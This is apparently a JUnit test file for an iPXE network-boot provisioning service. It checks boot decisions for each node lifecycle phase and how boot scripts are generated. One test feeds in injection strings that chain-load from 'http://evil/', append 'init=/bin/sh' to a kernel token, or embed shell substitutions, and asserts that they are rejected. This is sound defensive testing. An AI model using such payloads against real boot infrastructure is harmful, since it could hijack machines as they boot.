package io.slipway.boot;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.slipway.lifecycle.BootMode;
import io.slipway.lifecycle.BootStep;
import io.slipway.lifecycle.InstallStage;
import io.slipway.lifecycle.NodeEvent;
import io.slipway.lifecycle.NodeLifecycle;
import io.slipway.lifecycle.NodePhase;
import io.slipway.lifecycle.NodeState;
import java.time.Instant;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;

class BootPolicyTest {
    private static final Instant T = Instant.parse("2026-01-01T00:00:00Z");
    private static final String N = "node1";
    private static final String TOKEN = "a".repeat(64);
    private static final String IMAGE = "b".repeat(64);
    private static final IpxeScript.Site SITE = new IpxeScript.Site("http://10.99.0.1:8080", true);
    private static final NodeEvent ARM = new NodeEvent.Armed(T, N, BootMode.INSTALL, TOKEN, IMAGE, T.plusSeconds(60));
    private static final NodeEvent FETCH = new NodeEvent.ScriptServed(T, N, "10.99.0.11");
    private static final NodeEvent CLAIM = new NodeEvent.Claimed(T, N, "n", "10.99.0.11", "s", true);
    private static final NodeEvent BACK = new NodeEvent.CalledBack(T, N, "10.99.0.11", List.of());

    private static BootRequest request(String platform, String address) {
        return BootRequest.of("52-54-00-00-00-0b", "", "", "x86_64", platform, address);
    }

    /** A state of each phase, made by events that lead there. */
    private static Map<NodePhase, NodeState> states() {
        var waiting = new NodeEvent.Claimed(T, N, "n", "10.99.0.11", "s", false);
        var installed = new NodeEvent.Installed(T, N);
        var login = new NodeEvent.LoginWorked(T, N);
        var rescue = new NodeEvent.Armed(T, N, BootMode.RESCUE, TOKEN, IMAGE, T.plusSeconds(60));
        var out = new EnumMap<NodePhase, NodeState>(NodePhase.class);
        out.put(NodePhase.KNOWN, after());
        out.put(NodePhase.ARMED, after(ARM));
        out.put(NodePhase.BOOTING, after(ARM, new NodeEvent.Seen(T, N, BootStep.LOADER, "10.99.0.11")));
        out.put(NodePhase.AWAITING_APPROVAL, after(ARM, FETCH, waiting));
        out.put(NodePhase.INSTALLING, after(ARM, FETCH, CLAIM, new NodeEvent.Progress(T, N, 1, InstallStage.DISK, 1)));
        out.put(NodePhase.INSTALLED, after(ARM, FETCH, CLAIM, installed));
        out.put(NodePhase.FIRST_BOOT, after(ARM, FETCH, CLAIM, BACK));
        out.put(NodePhase.READY, after(ARM, FETCH, CLAIM, BACK, login));
        out.put(NodePhase.FORMING, after(ARM, FETCH, CLAIM, BACK, login, new NodeEvent.FormationStarted(T, N)));
        out.put(NodePhase.MEMBER, after(ARM, FETCH, CLAIM, BACK, login, new NodeEvent.Joined(T, N)));
        out.put(
                NodePhase.LEAVING,
                after(ARM, FETCH, CLAIM, BACK, login, new NodeEvent.Joined(T, N), new NodeEvent.LeaveStarted(T, N)));
        out.put(NodePhase.FAILED, after(ARM, FETCH, CLAIM, new NodeEvent.Failed(T, N, "no disk")));
        out.put(NodePhase.RESCUE, after(rescue, FETCH, CLAIM));
        out.put(NodePhase.QUARANTINED, after(ARM, FETCH, CLAIM, new NodeEvent.DoubleClaimed(T, N, "10.99.0.66")));
        out.put(NodePhase.REMOVED, after(new NodeEvent.Removed(T, N)));
        return out;
    }

    private static NodeState after(NodeEvent... events) {
        NodeState state = NodeState.known(N, T);
        for (NodeEvent event : events) {
            var applied = NodeLifecycle.apply(state, event);
            assertThat(applied.impossible()).isEmpty();
            state = applied.state();
        }
        return state;
    }

    private static BootDecision decide(NodeState state, String address, Instant now, boolean image) {
        return BootPolicy.decide(Optional.of(state), request("pcbios", address), now, image);
    }

    @ParameterizedTest
    @CsvSource({
        "KNOWN, Menu",
        "ARMED, Start",
        "BOOTING, Start",
        "AWAITING_APPROVAL, LocalDisk",
        "INSTALLING, LocalDisk",
        "INSTALLED, LocalDisk",
        "FIRST_BOOT, LocalDisk",
        "READY, LocalDisk",
        "FORMING, LocalDisk",
        "MEMBER, LocalDisk",
        "FAILED, Menu",
        "RESCUE, LocalDisk",
        "QUARANTINED, Quarantined",
        "LEAVING, LocalDisk",
        "REMOVED, Menu"
    })
    void eachPhaseHasItsRow(NodePhase phase, String decision) {
        NodeState state = java.util.Objects.requireNonNull(states().get(phase));
        assertThat(state.phase()).isEqualTo(phase);
        assertThat(decide(state, "10.99.0.11", T, true).getClass().getSimpleName())
                .isEqualTo(decision);
    }

    @Test
    void everyPhaseIsInTheTable() {
        assertThat(states().keySet()).hasSize(NodePhase.values().length - 1).doesNotContain(NodePhase.DISCOVERED);
    }

    @Test
    void anUnknownMachineGetsAMenu() {
        assertThat(BootPolicy.decide(Optional.empty(), request("efi", "10.99.0.50"), T, true))
                .isInstanceOf(BootDecision.Menu.class);
    }

    @Test
    void anArmingIsWorthNothingLateOrElsewhereOrWithoutItsImage() {
        assertThat(decide(after(ARM), "10.99.0.11", T.plusSeconds(60), true)).isInstanceOf(BootDecision.Menu.class);
        assertThat(decide(after(ARM, FETCH), "10.99.0.66", T, true)).isInstanceOf(BootDecision.Quarantined.class);
        assertThat(decide(after(ARM, FETCH), "10.99.0.11", T, true)).isInstanceOf(BootDecision.Start.class);
        assertThat(decide(after(ARM), "10.99.0.11", T, false)).isInstanceOf(BootDecision.Menu.class);
        assertThat(BootPolicy.decide(
                        Optional.of(after(ARM)),
                        BootRequest.of("52-54-00-00-00-0b", "", "", "arm64", "efi", "10.99.0.11"),
                        T,
                        true))
                .isInstanceOf(BootDecision.Menu.class);
    }

    @ParameterizedTest
    @EnumSource(NodePhase.class)
    void onlyAnArmedScriptHasATokenAndEveryScriptEndsAtTheDisk(NodePhase phase) {
        NodeState state = states().get(phase);
        for (String platform : List.of("pcbios", "efi", "")) {
            var request = request(platform, "10.99.0.11");
            BootDecision decision = BootPolicy.decide(Optional.ofNullable(state), request, T, true);
            String script = IpxeScript.of(decision, request, SITE);
            assertThat(script.contains(TOKEN)).isEqualTo(phase == NodePhase.ARMED || phase == NodePhase.BOOTING);
            assertThat(script).startsWith("#!ipxe\necho ");
            assertThat(script)
                    .endsWith(
                            platform.equals("pcbios")
                                    ? "sanboot --no-describe --drive 0x80 ||\necho There is no system on the first disk.\nexit\n"
                                    : "exit 1\n");
        }
    }

    @Test
    void theInstallersCommandLine() {
        var request = request("efi", "10.99.0.11");
        var start = new BootDecision.Start(N, BootMode.INSTALL, TOKEN, IMAGE);
        assertThat(IpxeScript.commandLine(start, request, SITE))
                .isEqualTo(
                        "initrd=initrd.img kbd=us nodhcp slipway.url=http://10.99.0.1:8080/nodes/node1 slipway.token="
                                + TOKEN + " slipway.image=" + IMAGE
                                + " slipway.mac=52:54:00:00:00:0b slipway.mode=install console=tty0 console=ttyS0,115200n8");
    }

    @Test
    void theWholeScriptOfAnArmedNode() {
        String script = IpxeScript.of(
                new BootDecision.Start(N, BootMode.RESCUE, TOKEN, IMAGE),
                request("pcbios", "10.99.0.11"),
                new IpxeScript.Site("http://10.99.0.1:8080", false));
        String kernel = "kernel --name vmlinuz http://10.99.0.1:8080/images/" + IMAGE
                + "/boot/vmlinuz initrd=initrd.img kbd=us nodhcp slipway.url=http://10.99.0.1:8080/nodes/node1"
                + " slipway.token=" + TOKEN + " slipway.image=" + IMAGE
                + " slipway.mac=52:54:00:00:00:0b slipway.mode=rescue && goto kernel_ok ||\n";
        assertThat(script)
                .startsWith(
                        "#!ipxe\necho Node node1 starts a rescue shell. Nothing is erased.\necho Image bbbbbbbbbbbb\n"
                                + kernel
                                + "echo kernel could not be fetched, attempt 1 of 5\nsleep 1\n")
                .contains("goto failed\n:kernel_ok\ninitrd --name initrd.img http://10.99.0.1:8080/images/")
                .contains(":initrd_ok\nboot ||\n:failed\n");
        assertThat(script.split("kernel --name", -1)).hasSize(6);
        // Jumps only go forward, so that no failure loops.
        for (String label : List.of("kernel_ok", "initrd_ok", "failed")) {
            assertThat(script.lastIndexOf("goto " + label)).isLessThan(script.indexOf("\n:" + label));
        }
    }

    @Test
    void hostileTextsDoNotReachTheScript() {
        String evil = "x\nkernel http://evil/ ${net0/mac} || chain http://evil/ #\"'\\";
        String script = IpxeScript.of(new BootDecision.Menu("", evil), request("pcbios", "10.99.0.11"), SITE);
        assertThat(script.lines().filter(line -> line.startsWith("kernel"))).isEmpty();
        assertThat(script).doesNotContain("${net0").doesNotContain("|| chain http://evil");
        assertThatThrownBy(() -> IpxeScript.of(
                        new BootDecision.Start("n\nshell", BootMode.INSTALL, TOKEN, IMAGE),
                        request("pcbios", "10.99.0.11"),
                        SITE))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> IpxeScript.of(
                        new BootDecision.Start(N, BootMode.INSTALL, TOKEN + " init=/bin/sh", IMAGE),
                        request("pcbios", "10.99.0.11"),
                        SITE))
                .isInstanceOf(IllegalArgumentException.class);
        assertThatThrownBy(() -> new IpxeScript.Site("http://10.0.0.1:80/$(x)", true))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    void aMalformedQuestionIsAQuestionWithoutAName() {
        var request = BootRequest.of("01:02", "not-a-uuid", "s\nshell", "x86_64; shell", "efi${x}", "10.99.0.50");
        assertThat(request).isEqualTo(new BootRequest(null, "", "", "", "", "10.99.0.50"));
        assertThat(BootRequest.of("ff-ff-ff-ff-ff-ff", "", "", "", "", "").mac())
                .isNull();
        assertThat(BootRequest.of("", "", "x".repeat(65), "", "", "").serial()).isEmpty();
    }
}
